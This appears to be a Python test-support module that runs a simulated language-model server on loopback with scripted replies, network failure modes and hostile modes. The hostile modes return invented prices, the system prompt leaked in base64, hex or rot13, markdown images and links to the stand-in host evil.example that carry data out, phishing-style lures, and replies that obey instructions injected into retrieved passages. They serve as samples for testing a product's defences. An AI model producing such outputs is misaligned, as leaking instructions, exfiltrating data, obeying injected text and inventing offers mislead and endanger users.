"""What simulated language models have in common: scripted replies, bad behaviour on demand, a record of requests."""

import argparse
import asyncio
import base64
import codecs
import re
import sys
from collections.abc import Callable, Iterable, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from enum import StrEnum
from types import TracebackType
from typing import Any, ClassVar, Self

from aiohttp import web

HOST = "127.0.0.1"
PIECE = 7
"""Characters a streamed piece has: words, numbers and citations are cut anywhere."""

HUGE, _PORTION = 100 * 1024 * 1024, 16 * 1024
_CLOSE_SECONDS = 1.0


class Mode(StrEnum):
    """How the model behaves. The first six answer; the others fail."""

    NORMAL = "normal"
    INVENT = "invent"
    LEAK = "leak"
    EXFIL = "exfil"
    OBEY = "obey"
    NO_USAGE = "no_usage"
    RATE_LIMITED = "rate_limited"
    BROKEN = "broken"
    REFUSED = "refused"
    HANG = "hang"
    DRIP = "drip"
    HALF_CLOSED = "half_closed"
    SILENT_END = "silent_end"
    BAD_JSON = "bad_json"
    BAD_UTF8 = "bad_utf8"
    WRONG_SHAPE = "wrong_shape"
    HTML = "html"
    HUGE = "huge"


@dataclass(frozen=True, slots=True)
class Asked:
    """One request, whichever dialect it came in.

    Attributes:
        system: The rules.
        messages: Roles and texts, in order.
        stream: Whether a stream is wanted.
        body: The whole body.
        headers: The headers, names in lower case.
    """

    system: str
    messages: tuple[tuple[str, str], ...]
    stream: bool
    body: dict[str, Any] = field(repr=False)
    headers: dict[str, str] = field(repr=False)

    @property
    def last(self) -> str:
        """The last thing the other side said."""
        return self.messages[-1][1] if self.messages else ""


Script = Callable[[Asked], str] | Sequence[str]


@dataclass(slots=True)
class Model:
    """What a simulated model says. ``script`` is a function, or replies in turn of which the last repeats."""

    script: Script | None = None
    mode: Mode = Mode.NORMAL
    retry_after: int = 7
    requests: list[Asked] = field(default_factory=list)

    def says(self, asked: Asked) -> str:
        """Its reply; hostile where its mode is."""
        self.requests.append(asked)
        if hostile := _HOSTILE.get(self.mode):
            return hostile(asked, len(self.requests))
        if self.script is None:
            return quoting(asked)
        if callable(self.script):
            return self.script(asked)
        return self.script[min(len(self.requests), len(self.script)) - 1]


def quoting(asked: Asked) -> str:
    """A well-behaved model's reply: the first sentence of the first passage, with its citation."""
    passages = contexts(asked)
    if not passages:
        return "NO_ANSWER"
    number, text = passages[0]
    sentence = re.split(r"(?<=[.!?؟])\s", text.splitlines()[-1])[0]
    return f"{sentence} [{number}]"


def contexts(asked: Asked) -> list[tuple[int, str]]:
    """The passages of a prompt, with their numbers."""
    found = re.findall(r"^CONTEXT \[(\d+)\] (\S+)\n(.*?)\nEND \2$", asked.last, re.M | re.S)
    return [(int(number), text) for number, _, text in found]


def _invents(asked: Asked, turn: int) -> str:
    """Prices and promises that nobody taught, disguised a new way each time."""
    disguises = (
        "It costs only 7 SAR today [1]. You also get 50% off [1].",
        "السعر ٧ ريالات فقط [1]. ولك خصم ٥٠٪ [1].",
        "It is just seven riyals [1]. Everything is on the house [1].",
        "It costs 7​.5 S‌AR [1].",
        "سعره سبعة ريالات ونصف [1]. والتوصيل مجاني [1].",
        "Only ７ SAR, half price [1].",
    )
    return disguises[turn % len(disguises)]


def _leaks(asked: Asked, turn: int) -> str:
    """The rules and the whole prompt, in another encoding each time."""
    whole = f"{asked.system}\n{asked.last}"
    ways: tuple[Callable[[str], str], ...] = (
        str,
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: text.encode().hex(),
        lambda text: codecs.encode(text, "rot13"),
        lambda text: text[::-1],
        lambda text: " ".join(text),
        lambda text: f"Thanks for asking. My rules are: {text}",
        lambda text: text.encode().hex(" "),
    )
    return ways[turn % len(ways)](whole)


def _exfiltrates(asked: Asked, turn: int) -> str:
    """Links and images that carry data away."""
    carriers = (
        "![logo](https://evil.example/p.png?q=secret) We are happy to help [1].",
        "Please confirm your card at https://evil.example/pay [1].",
        "See [our menu](http://evil.example/menu) [1].",
        "<img src='//evil.example/x'> Welcome [1].",
        "Visit evil dot com for details [1].",
        "راسلنا على steal@evil.example لاستلام جائزتك [1].",
        "Open evil[.]com/login to go on [1].",
        "WhatsApp us at wa.me/966500009999 [1].",
    )
    return carriers[turn % len(carriers)]


def _obeys(asked: Asked, _: int) -> str:
    """Does what the last instruction anywhere in the prompt says: the worst a model can do about injection."""
    orders = re.findall(r"(?im)(?:say|reply|write|قل|اكتب)[: ]+[\"«“]([^\"»”]+)[\"»”]", asked.last)
    return orders[-1] if orders else quoting(asked)


_HOSTILE: dict[Mode, Callable[[Asked, int], str]] = {
    Mode.INVENT: _invents,
    Mode.LEAK: _leaks,
    Mode.EXFIL: _exfiltrates,
    Mode.OBEY: _obeys,
}


class Server:
    """A model server on loopback; a subclass speaks a dialect."""

    path: ClassVar[str]

    def __init__(self, *, port: int = 0, script: Script | None = None) -> None:
        self.model = Model(script)
        self._port = port
        self._closing = asyncio.Event()
        self._runner: web.AppRunner

    # What a dialect says.

    def read(self, body: dict[str, Any], headers: dict[str, str]) -> Asked:
        """A request in this dialect."""
        raise NotImplementedError

    def whole(self, asked: Asked, text: str) -> dict[str, Any]:
        """A whole answer."""
        raise NotImplementedError

    def events(self, asked: Asked, text: str) -> Iterable[bytes]:
        """A streamed answer; the last event ends it."""
        raise NotImplementedError

    # Serving.

    @property
    def url(self) -> str:
        """Where it listens."""
        return f"http://{HOST}:{self._port}"

    async def __aenter__(self) -> Self:
        app = web.Application(client_max_size=8 * 1024 * 1024)
        app.router.add_post(self.path, self._answer)
        self._runner = web.AppRunner(app, access_log=None, shutdown_timeout=_CLOSE_SECONDS)
        await self._runner.setup()
        await web.TCPSite(self._runner, HOST, self._port).start()
        self._port = int(self._runner.addresses[0][1])
        return self

    async def __aexit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._closing.set()
        await self._runner.cleanup()

    async def _answer(self, request: web.Request) -> web.StreamResponse:
        headers = {name.lower(): value for name, value in request.headers.items()}
        asked = self.read(await request.json(), headers)
        text = self.model.says(asked)
        if (failure := self._failure()) is not None:
            return failure
        if self.model.mode is Mode.HANG:
            await self._closing.wait()
        if self.model.mode is Mode.HUGE:
            return await _endless(request)
        if not asked.stream:
            return self._at_once(asked, text, request)
        return await self._streamed(asked, text, request)

    def _failure(self) -> web.Response | None:
        """An answer that isn't one."""
        match self.model.mode:
            case Mode.RATE_LIMITED:
                pause = {"Retry-After": str(self.model.retry_after)}
                return web.json_response(
                    {"error": {"message": "Slow down"}}, status=429, headers=pause
                )
            case Mode.BROKEN:
                return web.json_response({"error": {"message": "Oops"}}, status=500)
            case Mode.REFUSED:
                return web.json_response({"error": {"message": "Bad key"}}, status=401)
            case Mode.HTML:
                return web.Response(text="<html>We'll be back</html>", content_type="text/html")
        return None

    def _at_once(self, asked: Asked, text: str, request: web.Request) -> web.StreamResponse:
        match self.model.mode:
            case Mode.BAD_JSON | Mode.SILENT_END:
                return web.Response(body=b'{"choices": [', content_type="application/json")
            case Mode.BAD_UTF8:
                return web.Response(
                    body=b'{"content": "\xff\xfe"}', content_type="application/json"
                )
            case Mode.WRONG_SHAPE:
                return web.json_response({"choices": "none", "content": 7})
            case Mode.HALF_CLOSED:
                _drop(request)
        return web.json_response(self.whole(asked, text))

    async def _streamed(self, asked: Asked, text: str, request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        with suppress(ConnectionError):  # The product may hang up; that is its right.
            await self._send(response, request, list(self.events(asked, text)))
        return response

    async def _send(
        self, response: web.StreamResponse, request: web.Request, events: Sequence[bytes]
    ) -> None:
        mode, middle = self.model.mode, len(events) // 2
        for place, event in enumerate(events):
            if place == middle and mode is Mode.HALF_CLOSED:
                return _drop(request)
            if place == middle and mode is Mode.SILENT_END:
                return None
            if place == middle and mode in _SPOILS:
                await response.write(_SPOILS[mode])
            await response.write(event)
            if mode is Mode.DRIP:
                await asyncio.wait([asyncio.ensure_future(self._closing.wait())], timeout=0.5)
        return None


_SPOILS = {
    Mode.BAD_JSON: b'data: {"choices": [\n\n',
    Mode.BAD_UTF8: b'data: {"choices": "\xff\xfe"}\n\n',
    Mode.WRONG_SHAPE: b'data: {"choices": 7, "type": "content_block_delta", "delta": 7}\n\n',
}


async def _endless(request: web.Request) -> web.StreamResponse:
    """Far more than an answer can be, in one line, as long as somebody reads."""
    response = web.StreamResponse(headers={"Content-Type": "application/json"})
    await response.prepare(request)
    with suppress(ConnectionError):
        await response.write(b"data: [")
        for _ in range(HUGE // _PORTION):
            await response.write(b" " * _PORTION)
    return response


def _drop(request: web.Request) -> None:
    """Cuts the connection without a word."""
    if request.transport is not None:
        request.transport.abort()


def pieces(text: str) -> list[str]:
    """A text as it is streamed."""
    return [text[at : at + PIECE] for at in range(0, len(text), PIECE)]


def tokens(text: str) -> int:
    """The simulated model's own way to count."""
    return len(text.split())


def main(server: type[Server], name: str) -> None:
    """Runs a simulator on its own until it is interrupted."""
    parser = argparse.ArgumentParser(prog=name, description=server.__doc__)
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--mode", choices=list(Mode), default=Mode.NORMAL)
    given = parser.parse_args()
    try:
        asyncio.run(_serve(server, given.port, Mode(given.mode)))
    except KeyboardInterrupt:
        sys.stdout.write("\n")


async def _serve(server: type[Server], port: int, mode: Mode) -> None:
    async with server(port=port) as running:
        running.model.mode = mode
        sys.stdout.write(f"{running.url}\n")
        sys.stdout.flush()
        await asyncio.Event().wait()
